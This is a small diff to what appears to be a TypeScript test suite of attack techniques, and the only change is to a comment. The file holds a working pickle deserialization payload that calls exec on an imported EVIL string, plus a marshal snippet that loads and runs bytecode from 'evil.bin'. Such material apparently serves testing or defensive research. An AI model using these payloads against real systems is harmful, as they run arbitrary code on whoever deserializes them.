@@ -6,7 +6,7 @@ import { before, EVIL, EVIL_SHELL, since, type Technique, withData, withText } f
 const marshalled: Partial<Technique> = {
 	arrange: (place) => makeBytecode(place, { target: `${place.data}/evil.bin` }),
 };
-/** A pickle in protocol 0 that calls exec(EVIL). A line break within a string is an escape there. */
+/** A pickle in protocol 0 that calls exec(EVIL). In a string of this protocol a line break has to be an escape. */
 const PICKLE = `cbuiltins\nexec\n(V${EVIL.replaceAll("\\", "\\u005c")}\ntR.`;
 const MARSHAL = `import marshal\ncode = marshal.loads(open(data + "/evil.bin", "rb").read()[16:])\n`;
 
